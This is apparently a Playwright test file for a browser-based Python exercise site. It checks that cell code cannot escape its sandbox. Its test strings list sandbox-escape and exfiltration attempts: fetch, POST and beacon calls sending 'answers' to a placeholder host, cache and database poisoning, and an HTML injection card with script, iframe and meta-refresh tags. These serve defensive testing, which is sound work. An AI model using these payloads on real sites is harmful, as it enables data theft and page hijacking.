"""What runs on a page is confined, whoever wrote it: it reaches no other host, nothing kept, no later page."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from .conftest import SITE
from .test_exercises import CHECK, RIGHT, SAMPLE, SET

pytestmark = pytest.mark.browser
PATIENCE = 60_000  # ms


@pytest.fixture(scope="module", params=["served", "a copy"])
def page(request: pytest.FixtureRequest, browser: Browser, site: str) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    opened.set_default_timeout(PATIENCE)
    opened.goto(f"{site if request.param == 'served' else SITE.as_uri()}/exercises/{SAMPLE}.html")
    yield opened
    context.close()


def printed(page: Page, source: str) -> str:
    """Run this in the cell to try 3.1 in, and return what it printed."""
    page.evaluate(SET, ["try 3.1", source])
    cell = page.locator(".qkv-live", has=page.locator('[data-key="try 3.1"]'))
    page.evaluate("() => document.querySelector('.qkv-printed')?.replaceChildren()")
    cell.locator("[data-do=run]").click()
    expect(cell.locator(".qkv-printed")).not_to_be_empty(timeout=PATIENCE)
    return cell.locator(".qkv-printed").inner_text()


# Every way out that a script of a worker could have, tried from a worker that a cell of Python starts. It says of each
# what came of it; "begun" is not yet a way out: whether something arrived is seen by the other host.
SCRIPT = """
const host = "ADDRESS", site = "SITE";
// Some browsers refuse a worker only after it was made, by an event.
const begun = (worker) => new Promise((good, bad) => { worker.onerror = bad; setTimeout(good, 1500); });
const tries = {
  fetch: () => fetch(`http://${host}/fetch`),
  "fetch from the site": () => fetch(site),
  "a request that sends": () => fetch(`http://${host}/post`, { method: "POST", mode: "no-cors", body: "answers" }),
  XMLHttpRequest: () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", `http://${host}/xhr`, false);
    asked.send();
  },
  WebSocket: () =>
    new Promise((good, bad) => Object.assign(new WebSocket(`ws://${host}/x`), { onopen: good, onerror: bad })),
  EventSource: () =>
    new Promise((good, bad) => Object.assign(new EventSource(`http://${host}/e`), { onopen: good, onerror: bad })),
  WebTransport: () => new WebTransport(`https://${host}/transport`).ready,
  importScripts: () => importScripts(`http://${host}/script`),
  "importScripts from the site": () => importScripts(site),
  "import()": () => import(`http://${host}/module`),
  "import() from the site": () => import(site),
  sendBeacon: () => navigator.sendBeacon(`http://${host}/beacon`, "answers"),
  "a font": () => new FontFace("x", `url(http://${host}/font)`).load(),
  eval: () => eval("1"),
  Function: () => new Function("return 1")(),
  "a worker of the site": () => begun(new Worker(site)),
  "a worker of another host": () => begun(new Worker(`http://${host}/worker`)),
  "a shared worker": () => begun(new SharedWorker(site)),
  "the cache": () => caches.open("qkv-poisoned").then((cache) => cache.put("/x", new Response("poison"))),
  "the page's caches": async () => (await caches.keys()).includes("of-the-page") || Promise.reject("none is there"),
  "a database": () =>
    new Promise((good, bad) => Object.assign(indexedDB.open("qkv-poisoned"), { onsuccess: good, onerror: bad })),
  files: () => navigator.storage.getDirectory(),
  "local storage": () => localStorage.setItem("qkv-poisoned", "1"),
  cookies: () => cookieStore.set("qkv-poisoned", "1"),
  "a service worker": () => navigator.serviceWorker.register(site),
  locks: () => navigator.locks.request("qkv-poisoned", () => {}),
  "the window": () => parent.postMessage("answers", "*"),
  "the document": () => document.body.append("answers"),
  WebRTC: () => new RTCPeerConnection(),
};
new BroadcastChannel("qkv-poisoned").postMessage("answers");
for (const [name, attempt] of Object.entries(tries))
  Promise.resolve()
    .then(attempt)
    .then(() => postMessage([name, "allowed"]), (why) => postMessage([name, String(why?.message ?? why.type ?? why)]));
"""
START = """
import js
from pyodide.ffi import create_proxy, to_js
G = js.globalThis
G.said = G.Object.new()
def note(event):
    setattr(G.said, str(event.data[0]), str(event.data[1])[:80])
kind = to_js({"type": "text/javascript"}, dict_converter=G.Object.fromEntries)
worker = G.Worker.new(G.URL.createObjectURL(G.Blob.new(to_js([SCRIPT]), kind)))
worker.onmessage = create_proxy(note)
def refused(event):
    setattr(G.said, "a worker of the site, from Python", "refused")
try:
    other = G.Worker.new(SITE)
    setattr(G.said, "a worker of the site, from Python", "allowed")
    other.onerror = create_proxy(refused)
except Exception as error:
    setattr(G.said, "a worker of the site, from Python", str(error)[:80])
asked = G.XMLHttpRequest.new()
asked.open("GET", SITE, False)
try:
    asked.send()
    setattr(G.said, "a request from Python", "allowed")
except Exception as error:
    setattr(G.said, "a request from Python", str(error)[:80])
G.postMessage("answers")
print("END")
"""
SAID = "import js\nG = js.globalThis\nprint(G.JSON.stringify(G.said))"
KEPT = """async () => ({
  caches: (await globalThis.caches?.keys() ?? []).filter((name) => name !== "of-the-page"),
  databases: (await indexedDB.databases()).map(({ name }) => name),
  storage: Object.keys(localStorage),
  cookies: document.cookie,
  heard: window.heard,
})"""
LISTEN = """async () => {
  await globalThis.caches?.open("of-the-page").catch(() => null);
  window.heard = [];
  new BroadcastChannel("qkv-poisoned").onmessage = () => window.heard.push("channel");
  addEventListener("message", ({ data }) => window.heard.push(data));
  return true;
}"""


def test_code_on_a_page_reaches_no_host_and_nothing_kept(page: Page, elsewhere: tuple[str, list[str]]):
    host, asked = elsewhere
    own = f"{page.url.rpartition('/exercises')[0]}/_static/python/worker.js"
    page.evaluate(LISTEN)
    answered: list[str] = []
    page.context.on("response", lambda response: answered.append(response.url))  # what is refused has no response
    assert printed(page, "print('END')") == "END\n"  # Python is loaded
    before = len(answered)
    script = SCRIPT.replace("ADDRESS", host).replace("SITE", own)
    assert printed(page, f"SCRIPT, SITE = {script!r}, {own!r}\n{START}") == "END\n"
    page.wait_for_timeout(2_000)  # what was begun and was not refused would arrive
    said = json.loads(printed(page, SAID))
    assert len(said) == 31, said  # none is still waiting
    assert [name for name, words in said.items() if words == "allowed"] == [], said
    assert asked == []
    assert [url for url in answered[before:] if not url.startswith("blob:")] == []
    kept = page.evaluate(KEPT)
    assert (kept["caches"], kept["databases"], kept["cookies"], kept["heard"]) == ([], [], "", [])
    assert "qkv-poisoned" not in kept["storage"]
    assert page.evaluate(CHECK, ["3.1", RIGHT])["status"] == "passed"


HOSTILE_CARD = """
from qkv.checking.card import Card
Card.html = lambda self: '''<meta http-equiv="refresh" content="0; url=http://ADDRESS/led">
<style>body {{ display: none }}</style><link rel="stylesheet" href="http://ADDRESS/style">
<section class="qkv-card furo" onclick="window.entered = 1" style="position: fixed"><p class="qkv-card-status">words</p>
<a href="http://ADDRESS/link">x</a><form action="http://ADDRESS/form"><button>y</button></form>
<img src="http://ADDRESS/image" onerror="window.entered = 1"><script>window.entered = 1</script>
<iframe src="http://ADDRESS/frame"></iframe><svg><a href="http://ADDRESS/svg"><text>z</text></a></svg>
<base href="http://ADDRESS/"><p constructor="1" __proto__="2">more</p></section>'''
"""


def test_a_card_is_words_whoever_wrote_it(page: Page, elsewhere: tuple[str, list[str]]):
    host, asked = elsewhere
    address = page.url
    page.evaluate(CHECK, ["3.1", HOSTILE_CARD.replace("ADDRESS", host).replace("{{", "{").replace("}}", "}") + RIGHT])
    card = page.locator(".qkv-check[data-question='3.1'] .qkv-verdict")
    expect(card).to_contain_text("words")
    page.wait_for_timeout(500)
    assert (page.url, asked, page.evaluate("window.entered")) == (address, [], None)
    # Beside the card stands one line of the page's own: what a right answer leads to.
    assert card.evaluate("verdict => [...verdict.children].map(({ className }) => className).slice(1)") == ["qkv-next"]
    section = card.locator("section")
    assert section.locator("meta, style, link, a, form, img, script, iframe, svg, base, button").count() == 0
    assert section.evaluate("card => [...card.attributes].map(({ name }) => name)") == []


# Code of a page answers in the place of `notebook.answer`. Such answers erased the reader's text, threw in the page,
# or prolonged the time limit.
FORGED = [
    {"status": "passed", "points": None, "misconception": None, "message": "m", "html": "<p>m</p>"},
    {"status": {"a": 1}, "points": 3, "misconception": None, "message": "m", "html": "<p>m</p>"},
    {"failed": {"a": 1}},
    {"ready": True},
]


@pytest.mark.parametrize(
    "forged", [pytest.param(one, marks=[pytest.mark.slow][: i % 2]) for i, one in enumerate(FORGED)]
)
def test_an_answer_in_the_place_of_the_course_changes_nothing_that_is_kept(page: Page, forged: dict[str, object]):
    mine = "def score_variance(d_k, var_q, var_k):\n    return 'mine'\n"
    threw: list[str] = []
    page.on("pageerror", lambda error: threw.append(str(error)))
    page.evaluate(SET, ["3.2", mine])
    liar = f"import notebook\nnotebook.answer = lambda *asked: {json.dumps(forged)!r}\nprint('END')"
    assert printed(page, liar) == "END\n"
    found = page.evaluate("window.qkv.check('3.2')")
    assert (found["status"], found["points"]) == ("error", 0)
    assert found["message"].startswith("Python ended: this code changed the part of Python that answers the page")
    assert threw == []
    page.reload()
    assert page.evaluate("window.qkv.answer('3.2')") == mine
    assert page.evaluate(CHECK, ["3.1", RIGHT])["status"] == "passed"


def test_an_imported_answer_runs_only_after_the_reader_has_accepted_it(browser: Browser, site: str, tmp_path):
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    source = "print('from a file')\n" + RIGHT
    answers = {"format": "qkv-answers", "version": 1, "answers": {"3.1": {"source": source, "imported": False}}}
    file = tmp_path / "progress.json"
    file.write_text(json.dumps({"format": "qkv-progress", "version": 1, "pages": {}, "qkv-answers": answers}))
    page.goto(f"{site}/book/map.html")
    page.locator("input[type=file]").set_input_files(file)
    page.wait_for_function("() => localStorage.getItem('qkv-answers')")

    page.goto(f"{site}/exercises/{SAMPLE}.html")
    assert page.evaluate("window.qkv.answer('3.1')") == source
    expect(page.locator(".qkv-imported")).to_have_count(1)
    later = "def score_variance(d_k, var_q, var_k):\n    return d_k * var_q * var_k"
    found = page.evaluate(CHECK, ["3.2", later])  # would run 3.1's cell first
    assert (found["status"], "Nothing was run" in found["message"]) == ("error", True)
    assert page.locator("iframe").count() == 0, "Python was started"
    page.get_by_role("button", name="I have read them").click()
    expect(page.locator(".qkv-imported, .qkv-accept")).to_have_count(0)
    assert page.evaluate(CHECK, ["3.2", later])["status"] == "passed"
    page.reload()
    expect(page.locator(".qkv-imported")).to_have_count(0)
    context.close()


@pytest.mark.parametrize("ends", ["\r\n", "\r"])
def test_an_imported_answer_with_other_line_breaks_is_still_to_be_read(browser: Browser, site: str, ends: str):
    """An editor changes them. That was taken for a change of the reader's when another tab had changed an answer."""
    context = browser.new_context()
    kept = {"3.1": {"source": RIGHT.replace("\n", ends), "imported": True}}
    text = json.dumps({"format": "qkv-answers", "version": 1, "answers": kept})
    page = context.new_page()
    page.goto(f"{site}/book/map.html")
    page.evaluate("text => localStorage.setItem('qkv-answers', text)", text)
    page.goto(f"{site}/exercises/{SAMPLE}.html")
    expect(page.locator(".qkv-imported")).to_have_count(1)
    other = context.new_page()
    other.goto(f"{site}/exercises/{SAMPLE}.html")
    with page.expect_event("console", lambda said: said.text == "another tab"):
        page.evaluate("addEventListener('storage', () => setTimeout(() => console.log('another tab')))")
        other.evaluate(SET, ["3.2", "score_variance = None"])
    expect(page.locator(".qkv-imported")).to_have_count(1)
    assert page.evaluate(CHECK, ["3.3", "attention = None"])["message"].startswith("Nothing was run.")
    context.close()
